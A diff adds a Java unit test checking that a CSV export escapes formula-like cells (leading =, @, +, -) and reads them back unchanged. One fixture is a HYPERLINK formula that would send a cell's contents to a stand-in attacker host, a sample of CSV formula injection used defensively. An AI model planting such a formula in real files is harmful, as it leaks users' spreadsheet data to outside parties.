@@ -56,6 +56,22 @@ class CsvPostsTest {
     }
 
     @Test
+    void aCellASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndReadBackAsItWas() {
+        String link = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+        List<CsvPosts.Row> rows = List.of(
+                new CsvPosts.Row(2, "2027-01-05T09:00+01:00", "", link, List.of(), List.of(), ""),
+                new CsvPosts.Row(3, "2027-01-06T09:00+01:00", "", "'=x", List.of(), List.of("@alt", "-1"), ""),
+                new CsvPosts.Row(5, "2027-01-07T09:00+01:00", "", "'plain quote", List.of(), List.of("+1"), ""));
+        byte[] written = CsvPosts.write(rows);
+        assertEquals(rows, CsvPosts.read(written));
+        List<String> lines = new String(written, StandardCharsets.UTF_8).lines().toList();
+        assertEquals("2027-01-05T09:00+01:00,,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",,", lines.get(1));
+        assertEquals("2027-01-06T09:00+01:00,,''=x,,\"'@alt", lines.get(2), "a quote before = gets one more");
+        assertEquals("2027-01-07T09:00+01:00,,'plain quote,,'+1", lines.get(4), "a quote before text stays as it is");
+        assertEquals("=SUM(A1)", read("when,to,text,media,alt\ntomorrow,x,'=SUM(A1),,\n").get(0).text());
+    }
+
+    @Test
     void aFileThatIsNotTheFormatIsRefusedInOneLineThatSaysWhatToDo() {
         assertTrue(refusal(new byte[] {'w', 'h', 'e', 'n', 0, 1, 2}).startsWith("That file holds binary data"));
         assertTrue(refusal(new byte[] {'w', 'h', (byte) 0xE9, 'n', '\n'}).startsWith("That file is not UTF-8 text"));
